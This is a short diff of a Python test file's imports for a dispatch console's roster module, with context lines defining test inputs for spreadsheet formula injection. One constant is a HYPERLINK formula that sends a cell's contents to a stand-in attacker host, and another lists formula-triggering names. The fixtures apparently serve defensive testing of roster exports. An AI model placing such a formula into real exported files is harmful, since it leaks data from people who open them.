@@ -18,9 +18,9 @@ from support.roster_fixtures import DAY, REQUIRED, duty_room
 
 from db.engine import Database
 from db.models import Person, PersonRole
+from dispatch_console import rosters as roster
 from dispatch_console.kernel.actor import Actor
 from dispatch_console.rosters import files as roster_io
-from dispatch_console.rosters import service as roster
 
 EVIL_SHIFT = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")'
 NAMES = ("@SUM(1+1)", "-2+3", "\t制表符", "'引号")
